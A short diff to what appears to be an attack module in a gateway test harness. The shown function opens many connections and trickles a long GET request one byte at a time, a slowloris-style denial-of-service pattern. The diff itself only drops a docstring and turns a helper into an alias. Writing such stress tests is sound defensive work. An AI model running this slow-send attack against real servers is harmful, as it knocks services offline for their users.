@@ -11,10 +11,10 @@ from attacks.target import Target, request, served
 
 ITEM = 30
 MEMORY_MIB = 64
+look = served
 
 
 def attack(target: Target) -> None:
-    """Send a little to each in turn."""
     said = request("GET", "/" + "a" * 8_000)
     links = []
     with contextlib.suppress(OSError):
@@ -25,8 +25,3 @@ def attack(target: Target) -> None:
             with contextlib.suppress(OSError):
                 link.sendall(said[at : at + 1])
         time.sleep(0.01)
-
-
-def look(target: Target) -> list[str]:
-    """Ask the gateway for something meanwhile."""
-    return served(target)
